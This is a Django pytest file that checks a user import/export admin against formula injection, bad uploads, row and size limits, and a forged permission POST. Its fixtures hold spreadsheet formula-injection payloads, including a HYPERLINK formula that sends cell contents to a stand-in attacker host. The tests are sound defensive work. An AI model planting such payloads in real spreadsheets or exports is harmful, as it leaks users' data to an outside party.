"""Hostile files in the user import and export.

The export of users neutralises formulas exactly as the mail-log exports do
(names and addresses come from outside); an import is refused with a plain
form error when it is too big, has too many rows, or is separated by
semicolons, never with a traceback; and a forged "send test mail" POST
without the permission is answered 403.
"""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.contrib.auth import get_user_model
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.core.management.base import SystemCheckError
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from mailops.admin.resources import spreadsheet_safe
from mailops.models import MailLog
from tests.test_user_import_export import (
    CSV_FORMAT,
    XLSX_FORMAT,
    csv_file,
    export,
    preview,
)

pytestmark = pytest.mark.django_db

User = get_user_model()

HOSTILE_CELLS = {
    "first_name": '=HYPERLINK("http://attacker.example/?"&A1,"click")',
    "last_name": "+1+1",
}
HOSTILE_USERNAMES = ["-cmd", "@SUM", "+1+1"]


@pytest.fixture
def importer_client(client: Any, make_user: Any) -> Any:
    importer = make_user(
        "importer",
        "importer@example.com",
        perms=("auth.view_user", "auth.add_user", "auth.change_user"),
        is_staff=True,
    )
    client.force_login(importer)
    return client


@pytest.fixture
def hostile_users(make_user: Any) -> list[Any]:
    return [
        make_user(name, f"u{n}@example.com", **HOSTILE_CELLS)
        for n, name in enumerate(HOSTILE_USERNAMES)
    ]


def test_the_csv_export_of_users_starts_no_cell_with_a_formula(
    importer_client: Any, hostile_users: list[Any]
) -> None:
    response = export(importer_client, CSV_FORMAT)

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # Neutralised the mail log's way: the same function, the same result.
    by_name = {row[0]: row for row in rows[1:]}
    assert by_name["'-cmd"][2] == spreadsheet_safe(HOSTILE_CELLS["first_name"])
    assert by_name["'+1+1"][3] == "'+1+1"


def test_the_xlsx_export_of_users_has_no_live_formula_cell(
    importer_client: Any, hostile_users: list[Any]
) -> None:
    response = export(importer_client, XLSX_FORMAT)

    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert cells
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    values = {cell.value for cell in cells}
    assert spreadsheet_safe(HOSTILE_CELLS["first_name"]) in values
    assert "'@SUM" in values


def test_a_semicolon_separated_csv_gets_a_plain_form_error(
    importer_client: Any, settings: Any
) -> None:
    settings.DEBUG = False
    upload = csv_file("username;email\nalice;alice@example.com\n")

    page = preview(importer_client, upload)

    assert page.status_code == 200
    text = page.content.decode()
    assert "separated by semicolons" in text
    assert "comma-separated" in text
    assert "Traceback" not in text
    assert "site-packages" not in text
    assert not User.objects.filter(username="alice").exists()


def test_a_file_in_the_wrong_format_gets_a_plain_form_error(importer_client: Any) -> None:
    workbook = io.BytesIO()
    Workbook().save(workbook)
    upload = SimpleUploadedFile("users.xlsx", workbook.getvalue())

    text = preview(importer_client, upload, CSV_FORMAT).content.decode()

    assert "could not be read as CSV" in text
    assert "Traceback" not in text
    assert "encountered while trying to read file" not in text


def test_an_error_of_the_whole_file_shows_no_traceback(importer_client: Any) -> None:
    # Comma-separated but without the username column.
    text = preview(importer_client, csv_file("email\nalice@example.com\n")).content.decode()

    assert "username" in text
    assert "Nothing was imported" in text
    assert "Traceback" not in text
    assert "site-packages" not in text


def test_a_20000_row_preview_is_refused_by_the_row_limit(importer_client: Any) -> None:
    lines = ["username,email"] + [f"user{n},user{n}@example.com" for n in range(20_000)]
    upload = csv_file("\n".join(lines) + "\n")

    page = preview(importer_client, upload)

    text = page.content.decode()
    assert "The file has 20,000 rows; an import takes at most 10,000" in text
    assert "MAILOPS[&quot;IMPORT_MAX_ROWS&quot;]" in text
    assert page.context.get("result") is None  # no row was checked
    assert User.objects.count() == 1


def test_the_row_and_size_limits_follow_the_settings(importer_client: Any, settings: Any) -> None:
    settings.MAILOPS = {**settings.MAILOPS, "IMPORT_MAX_ROWS": 2, "IMPORT_MAX_BYTES": 100}
    three = csv_file("username,email\na,a@example.com\nb,b@example.com\nc,c@example.com\n")
    two = csv_file("username,email\na,a@example.com\nb,b@example.com\n")
    big = csv_file("username,email\n" + "x" * 150 + ",x@example.com\n")

    assert "The file has 3 rows; an import takes at most 2" in (
        preview(importer_client, three).content.decode()
    )
    assert "an import takes at most 100" in preview(importer_client, big).content.decode()
    assert not preview(importer_client, two).context["result"].has_errors()


def test_a_bad_limit_setting_names_the_key(settings: Any) -> None:
    from mailops.conf import get_setting
    from mailops.exceptions import InvalidSetting

    settings.MAILOPS = {**settings.MAILOPS, "IMPORT_MAX_ROWS": "10000"}

    with pytest.raises(InvalidSetting, match="IMPORT_MAX_ROWS"):
        get_setting("IMPORT_MAX_ROWS")
    with pytest.raises(SystemCheckError, match=r"mailops\.E014.*IMPORT_MAX_ROWS"):
        call_command("check")


def test_a_forged_send_test_mail_post_without_the_permission_is_refused(
    client: Any, make_user: Any
) -> None:
    target = make_user("target", "target@example.com")
    viewer = make_user(
        "viewer", perms=("auth.view_user", "auth.change_user", "auth.delete_user"), is_staff=True
    )
    client.force_login(viewer)

    response = client.post(
        reverse("admin:auth_user_changelist"),
        {
            "action": "send_test_mail",
            "_selected_action": [str(target.pk)],
            "post": "yes",
            "mailer": "default",
            "subject": "x",
            "body": "x",
        },
    )

    assert response.status_code == 403
    assert not MailLog.objects.exists()
